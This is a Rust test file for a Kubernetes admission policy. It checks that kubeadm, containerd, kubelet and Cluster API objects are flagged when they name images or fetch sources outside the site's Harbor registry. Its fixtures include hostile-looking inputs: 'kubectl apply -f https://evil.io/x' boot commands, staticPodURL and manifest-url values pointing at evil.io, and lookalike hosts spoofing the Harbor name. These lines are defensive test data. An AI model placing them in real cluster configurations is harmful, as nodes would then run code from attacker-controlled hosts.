//! One test a place.

use basphere_core::{ApiVersion, Kind};
use serde_json::{Value, json};

use super::{HARBOR, at, control_plane, of_kind, said, said_of, short, without_rules, world};
use crate::world::admin;

/// What one file with this content leads to.
fn file(path: &str, content: &str) -> Vec<(String, String, String, String)> {
    let said = said_of(&json!({"files": [{"path": path, "content": content}]}));
    assert!(
        said.iter()
            .all(|(_, path, ..)| *path == at("files[0].content")),
        "{said:?}"
    );
    said
}

fn refused(path: &str, content: &str, value: &str, place: &str) {
    let found = file(path, content);
    assert_eq!(
        short(&found),
        [("BSP-M001", &*at("files[0].content"), value)],
        "{path}"
    );
    let begins = format!("Unsupported value: \"{value}\": {place}");
    assert!(found[0].3.starts_with(&begins), "{} / {begins}", found[0].3);
}

#[test]
fn repositories_of_kubeadm() {
    for (config, field, value) in [
        (
            json!({"imageRepository": "registry.k8s.io"}),
            "imageRepository",
            "registry.k8s.io",
        ),
        (
            json!({"dns": {"imageRepository": "registry.k8s.io/coredns"}}),
            "dns.imageRepository",
            "registry.k8s.io/coredns",
        ),
        (
            json!({"etcd": {"local": {"imageRepository": "quay.io/coreos"}}}),
            "etcd.local.imageRepository",
            "quay.io/coreos",
        ),
    ] {
        let said = said_of(&json!({"clusterConfiguration": config}));
        let path = at(&format!("clusterConfiguration.{field}"));
        assert_eq!(short(&said), [("BSP-M001", &*path, value)]);
        let text = format!(
            "Unsupported value: \"{value}\": the site's registries are {HARBOR}; write {} [BSP-M001]",
            value.replacen(value.split('/').next().unwrap_or_default(), HARBOR, 1)
        );
        assert_eq!(said[0].3, text);
    }
    let repository = |value: &str| {
        let said = said_of(&json!({"clusterConfiguration": {"imageRepository": value}}));
        said.first().map(|(code, ..)| code.clone())
    };
    assert_eq!(repository("harbor.corp.example:8443/k8s"), None);
    assert_eq!(repository("harbor"), Some("BSP-M001".to_owned()));
    assert_eq!(
        repository("https://harbor.corp.example:8443/k8s"),
        Some("BSP-M002".to_owned())
    );
    assert_eq!(
        repository("harbor.corp.example:8443.evil.io/k8s"),
        Some("BSP-M002".to_owned())
    );
}

/// Of all kinds with kubeadm's configuration, whoever writes them.
#[test]
fn all_kinds_with_a_configuration_of_kubeadm() {
    for version in ApiVersion::CLUSTER_API {
        let config = json!({
            "clusterConfiguration": {"imageRepository": "registry.k8s.io"},
            "files": [{"path": "/x", "content": "image: quay.io/a/b"}],
            "bootCommands": ["crictl pull quay.io/c/d"],
        });
        let object = |kind: &str, group: &str, spec: Value| {
            json!({
                "apiVersion": format!("{group}.cluster.x-k8s.io/{version}"),
                "kind": kind,
                "metadata": {"name": "x", "labels": {"cluster.x-k8s.io/cluster-name": "demo"}},
                "spec": spec,
            })
        };
        let template = json!({"template": {"spec": {"kubeadmConfigSpec": config}}});
        for (object, base) in [
            (control_plane(version, &config), "spec.kubeadmConfigSpec"),
            (
                object("KubeadmControlPlaneTemplate", "controlplane", template),
                "spec.template.spec.kubeadmConfigSpec",
            ),
            (object("KubeadmConfig", "bootstrap", config.clone()), "spec"),
            (
                object(
                    "KubeadmConfigTemplate",
                    "bootstrap",
                    json!({"template": {"spec": config}}),
                ),
                "spec.template.spec",
            ),
        ] {
            let mut world = world(version);
            world.requester = admin();
            let said = said(&world.admit(&object));
            let field = |field: &str| format!("{base}.{field}");
            let expected = [
                (
                    "BSP-M001",
                    &*field("clusterConfiguration.imageRepository"),
                    "registry.k8s.io",
                ),
                ("BSP-M001", &*field("files[0].content"), "quay.io/a/b"),
                ("BSP-M001", &*field("bootCommands[0]"), "quay.io/c/d"),
            ];
            assert_eq!(short(&said), expected, "{version} {}", object["kind"]);
        }
    }
}

#[test]
fn static_pods() {
    let path = "/etc/kubernetes/manifests/x.yaml";
    for (content, place) in [
        (
            "spec:\n  containers:\n  - image: quay.io/a/b:1",
            "line 3, spec.containers[0].image",
        ),
        (
            "spec: {initContainers: [{image: 'quay.io/a/b:1'}]}",
            "line 1, spec.initContainers[0].image",
        ),
        (
            r#"{"spec":{"ephemeralContainers":[{"image":"quay.io\/a\/b:1"}]}}"#,
            "spec.ephemeralContainers[0].image",
        ),
        (
            "a: 1\n---\nspec: {containers: [{image: \"quay.io/a/b:1\"}]}",
            "line 3, spec.containers[0].image",
        ),
        (
            "spec: {volumes: [{image: {reference: quay.io/a/b:1}}]}",
            "line 1, spec.volumes[0].image.reference",
        ),
        (
            "x: &x {image: quay.io/a/b:1}\nspec: {containers: []}",
            "line 1, x.image",
        ),
        ("spec:\n\t- broken\n  image: quay.io/a/b:1", "line 3"),
        (
            "kind: ConfigMap\ndata:\n  pod.yaml: |\n    spec:\n      containers:\n      - image: quay.io/a/b:1",
            "data[pod.yaml], line 3, spec.containers[0].image",
        ),
    ] {
        refused(path, content, "quay.io/a/b:1", place);
    }
    let secret = "kind: Secret\ndata:\n  x: c3BlYzoKICBpbWFnZTogcXVheS5pby9hL2I6MQo=\n";
    refused(path, secret, "quay.io/a/b:1", "data.x, line 2, spec.image");
    assert_eq!(
        file(
            path,
            "spec: {containers: [{image: 'harbor.corp.example:8443/a:1'}]}"
        ),
        []
    );
    let evil = "spec: {containers: [{image: 'harbor.corp.example:8443.evil.io/a:1'}]}";
    assert_eq!(file(path, evil)[0].0, "BSP-M002");
}

#[test]
fn patches_of_kubeadm_and_appended_pieces() {
    let folder = "/etc/kubernetes/patches";
    refused(
        &format!("{folder}/kube-apiserver0+json.yaml"),
        "- op: replace\n  path: /spec/containers/0/image\n  value: quay.io/a/b:1",
        "quay.io/a/b:1",
        "line 3, [0].value",
    );
    refused(
        &format!("{folder}/etcd+merge.json"),
        r#"{"spec":{"containers":[{"name":"etcd","image":"quay.io/a/b:1"}]}}"#,
        "quay.io/a/b:1",
        "line 1, spec.containers[0].image",
    );
    let appended = json!({"files": [{
        "path": "/etc/kubernetes/manifests/x.yaml",
        "append": true,
        "content": "  - name: more\n    image: quay.io/a/b:1\n",
    }]});
    let said = said_of(&appended);
    assert_eq!(
        short(&said),
        [("BSP-M001", &*at("files[0].content"), "quay.io/a/b:1")]
    );
}

#[test]
fn configuration_of_containerd() {
    let path = "/etc/containerd/config.toml";
    refused(
        path,
        "version = 2\n[plugins.\"io.containerd.grpc.v1.cri\"]\n  sandbox_image = \"registry.k8s.io/pause:3.9\"\n",
        "registry.k8s.io/pause:3.9",
        "line 3, plugins.io.containerd.grpc.v1.cri.sandbox_image",
    );
    refused(
        path,
        "version = 3\n[plugins.'io.containerd.cri.v1.images'.pinned_images]\nsandbox = 'registry.k8s.io/pause:3.10'",
        "registry.k8s.io/pause:3.10",
        "line 3, plugins.io.containerd.cri.v1.images.pinned_images.sandbox",
    );
    refused(
        path,
        "[plugins.cri.registry.mirrors.\"docker.io\"]\nendpoint = [\"https://harbor.corp.example:8443/v2/hub\", \"https://evil.io\"]",
        "https://evil.io",
        "line 2, plugins.cri.registry.mirrors.docker.io.endpoint: images would come from here",
    );
    let hosts = "/etc/containerd/certs.d/docker.io/hosts.toml";
    refused(
        hosts,
        "server = \"https://registry-1.docker.io\"\n[host.\"https://harbor.corp.example:8443/v2/hub\"]\noverride_path = true",
        "https://registry-1.docker.io",
        "line 1, server",
    );
    refused(
        hosts,
        "server = \"https://harbor.corp.example:8443\"\n[host.\"https://harbor.corp.example:8443.evil.io\"]",
        "https://harbor.corp.example:8443.evil.io",
        "line 2, host",
    );
    // What is no TOML is read line by line.
    refused(
        path,
        "[[[\nsandbox_image = \"quay.io/a/pause:1\"",
        "quay.io/a/pause:1",
        "line 2",
    );
    refused(
        hosts,
        "[host.\"https://evil.io\"\n",
        "https://evil.io",
        "line 1",
    );
    let fine = "version = 2\n[plugins.\"io.containerd.grpc.v1.cri\"]\nsandbox_image = \"harbor.corp.example:8443/k8s/pause:3.9\"\n[plugins.\"io.containerd.grpc.v1.cri\".registry]\nconfig_path = \"/etc/containerd/certs.d\"";
    assert_eq!(file(path, fine), []);
    refused(
        "/etc/containers/registries.conf",
        "unqualified-search-registries = [\"docker.io\"]",
        "docker.io",
        "line 1, unqualified-search-registries",
    );
    refused(
        "/etc/crio/crio.conf",
        "[crio.image]\npause_image = \"quay.io/a/p:1\"",
        "quay.io/a/p:1",
        "line 2",
    );
}

#[test]
fn kubelet_scripts_and_units() {
    let found = file(
        "/var/lib/kubelet/config.yaml",
        "kind: KubeletConfiguration\nstaticPodURL: https://evil.io/pods",
    );
    assert_eq!(
        short(&found),
        [("BSP-M003", &*at("files[0].content"), "https://evil.io/pods")]
    );
    assert!(
        found[0]
            .3
            .contains("line 2, staticPodURL: it is fetched from evil.io"),
        "{}",
        found[0].3
    );
    refused(
        "/var/lib/kubelet/kubeadm-flags.env",
        "# x\nKUBELET_KUBEADM_ARGS=\"--pod-infra-container-image=registry.k8s.io/pause:3.9\"\n",
        "registry.k8s.io/pause:3.9",
        "line 2",
    );
    refused(
        "/opt/x",
        "#!/bin/sh\nset -e\ncrictl pull quay.io/a/b:1\n",
        "quay.io/a/b:1",
        "line 3",
    );
    refused(
        "/etc/systemd/system/x.service",
        "[Service]\nExecStart=/usr/bin/docker run --rm quay.io/a/b:1\n",
        "quay.io/a/b:1",
        "line 2",
    );
    refused(
        "/etc/cloud/cloud.cfg.d/x.cfg",
        "runcmd:\n- [ctr, -n, k8s.io, i, pull, 'quay.io/a/b:1']\n",
        "quay.io/a/b:1",
        "runcmd[0]",
    );
    let ignition = json!({"ignition": {"containerLinuxConfig": {
        "additionalConfig": "systemd:\n  units:\n  - name: x.service\n    contents: |\n      [Service]\n      ExecStart=/usr/bin/docker run quay.io/a/b:1\n",
    }}});
    let said = said_of(&ignition);
    let path = at("ignition.containerLinuxConfig.additionalConfig");
    assert_eq!(short(&said), [("BSP-M001", &*path, "quay.io/a/b:1")]);
}

#[test]
fn extra_arguments_in_both_shapes() {
    for version in ApiVersion::CLUSTER_API {
        let arguments = |pairs: &[(&str, &str)]| match version {
            ApiVersion::V1Beta2 => {
                let items = pairs
                    .iter()
                    .map(|(name, value)| json!({"name": name, "value": value}));
                Value::from_iter(items)
            }
            _ => Value::from_iter(pairs.iter().map(|(name, value)| (*name, *value))),
        };
        let config = json!({
            "joinConfiguration": {"nodeRegistration": {"kubeletExtraArgs": arguments(&[
                ("cloud-provider", "external"),
                ("pod-infra-container-image", "registry.k8s.io/pause:3.9"),
                ("manifest-url", "https://evil.io/pods"),
            ])}},
        });
        let decision = world(version).admit(&control_plane(version, &config));
        let path = |index: usize, name: &str| {
            let list = at("joinConfiguration.nodeRegistration.kubeletExtraArgs");
            match version {
                ApiVersion::V1Beta2 => format!("{list}[{index}].value"),
                _ => format!("{list}.{name}"),
            }
        };
        let expected = [
            (
                "BSP-M001",
                &*path(1, "pod-infra-container-image"),
                "registry.k8s.io/pause:3.9",
            ),
            (
                "BSP-M003",
                &*path(2, "manifest-url"),
                "https://evil.io/pods",
            ),
        ];
        assert_eq!(short(&said(&decision)), expected);
    }
}

#[test]
fn variables_of_a_topology() {
    for version in ApiVersion::CLUSTER_API {
        let pod = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: ghcr.io/kube-vip/kube-vip:v1\n";
        let overrides =
            json!({"overrides": [{"name": "sandboxImage", "value": "quay.io/a/pause"}]});
        let mut cluster = of_kind(Kind::Cluster, version);
        cluster["spec"] = json!({"topology": {
            "class": "x",
            "version": "v1.28.0",
            "variables": [
                {"name": "imageRepository", "value": "registry.k8s.io"},
                {"name": "kubeVipPodManifest", "value": pod},
                {"name": "vmImage", "value": "ubuntu-2204"},
                {"name": "exporterImage", "value": "exporter"},
                {"name": "addons", "value": {"image": {"registry": "quay.io", "repository": "a/b", "tag": "1"}}},
                {"name": "registry", "value": "https://quay.io/"},
                {"name": "size", "value": 3},
            ],
            "controlPlane": {"variables": overrides},
            "workers": {"machineDeployments": [{"class": "w", "name": "w", "variables": overrides}]},
        }});
        let decision = world(version).admit(&cluster);
        let at = |index: usize| format!("spec.topology.variables[{index}].value");
        let said = said(&decision);
        let expected = [
            ("BSP-M001", &*at(0), "registry.k8s.io"),
            ("BSP-M001", &*at(1), "ghcr.io/kube-vip/kube-vip:v1"),
            ("BSP-M001", &*at(4), "quay.io/a/b:1"),
            ("BSP-M001", &*at(5), "https://quay.io/"),
            (
                "BSP-M001",
                "spec.topology.controlPlane.variables.overrides[0].value",
                "quay.io/a/pause",
            ),
            (
                "BSP-M001",
                "spec.topology.workers.machineDeployments[0].variables.overrides[0].value",
                "quay.io/a/pause",
            ),
            ("BSP-M005", &*at(3), "exporter"),
        ];
        assert_eq!(short(&said), expected);
    }
}

#[test]
fn patches_and_variables_of_a_class() {
    for version in ApiVersion::CLUSTER_API {
        let spec = "/spec/template/spec/kubeadmConfigSpec";
        let class = json!({
            "apiVersion": format!("cluster.x-k8s.io/{version}"),
            "kind": "ClusterClass",
            "metadata": {"name": "x"},
            "spec": {
                "variables": [
                    {"name": "imageRepository", "schema": {"openAPIV3Schema": {"default": "registry.k8s.io"}}},
                ],
                "patches": [
                    {"name": "a", "definitions": [{"jsonPatches": [
                        {"op": "add", "path": format!("{spec}/clusterConfiguration/imageRepository"), "value": "k8s.gcr.io"},
                        {"op": "add", "path": format!("{spec}/clusterConfiguration"), "value": {"dns": {"imageRepository": "quay.io/dns"}}},
                        {"op": "add", "path": format!("{spec}/files/-"), "value": {"path": "/x", "encoding": "base64", "content": "aW1hZ2U6IHF1YXkuaW8vYS9i"}},
                        {"op": "add", "path": format!("{spec}/postKubeadmCommands/-"), "value": "kubectl apply -f https://evil.io/x"},
                        {"op": "add", "path": format!("{spec}/files/0"), "valueFrom": {"template": "content: |\n  {{ .x }}\n  image: quay.io/c/d\n"}},
                        {"op": "add", "path": format!("{spec}/clusterConfiguration/imageRepository"), "valueFrom": {"variable": "imageRepository"}},
                    ]}]},
                    {"name": "b", "external": {"generateExtension": "x"}},
                ],
            },
        });
        let mut world = world(version);
        world.requester = admin();
        let said = said(&world.admit(&class));
        let at = |index: usize, field: &str| {
            format!("spec.patches[0].definitions[0].jsonPatches[{index}].{field}")
        };
        let expected = [
            ("BSP-M001", &*at(0, "value"), "k8s.gcr.io"),
            ("BSP-M001", &*at(1, "value"), "quay.io/dns"),
            ("BSP-M001", &*at(2, "value.content"), "quay.io/a/b"),
            ("BSP-M003", &*at(3, "value"), "https://evil.io/x"),
            ("BSP-M001", &*at(4, "valueFrom.template"), "quay.io/c/d"),
            (
                "BSP-M001",
                "spec.variables[0].schema.openAPIV3Schema.default",
                "registry.k8s.io",
            ),
            ("BSP-M005", "spec.patches[1].external", "b"),
        ];
        assert_eq!(short(&said), expected);
    }
}

#[test]
fn bootstrap_data_of_a_person_cannot_be_seen() {
    for version in ApiVersion::CLUSTER_API {
        let mut deployment = of_kind(Kind::MachineDeployment, version);
        deployment["spec"]["template"]["spec"]["bootstrap"] = json!({"dataSecretName": "mine"});
        let said = said(&world(version).admit(&deployment));
        let path = "spec.template.spec.bootstrap.dataSecretName";
        assert_eq!(short(&said), [("BSP-M005", path, "mine")]);
    }
}

/// kubeadm takes its images from the internet when nobody says otherwise.
#[test]
fn a_repository_that_is_not_named_is_warned_of_once() {
    let version = ApiVersion::V1Beta2;
    let mut world = world(version);
    let mut object = control_plane(version, &json!({}));
    object["spec"]["kubeadmConfigSpec"]["clusterConfiguration"] = json!({});
    let first = world.apply(&object);
    assert!(first.is_allowed(), "{:?}", first.denials);
    let path = at("clusterConfiguration.imageRepository");
    assert_eq!(short(&said(&first)), [("BSP-M006", &*path, "")]);
    object["spec"]["replicas"] = json!(3);
    assert_eq!(said(&world.apply(&object)), []);
}

/// A site that says nothing of images has no rules on them.
#[test]
fn without_rules_nothing_is_said() {
    let version = ApiVersion::V1Beta1;
    let mut world = without_rules();
    world.apply_all(&crate::world::example("cluster", version)[..2]);
    let config = json!({
        "clusterConfiguration": {"imageRepository": "registry.k8s.io"},
        "postKubeadmCommands": ["kubectl apply -f https://evil.io/x"],
    });
    let decision = world.admit(&control_plane(version, &config));
    assert!(decision.is_allowed(), "{:?}", decision.denials);
    assert_eq!(said(&decision), []);
}
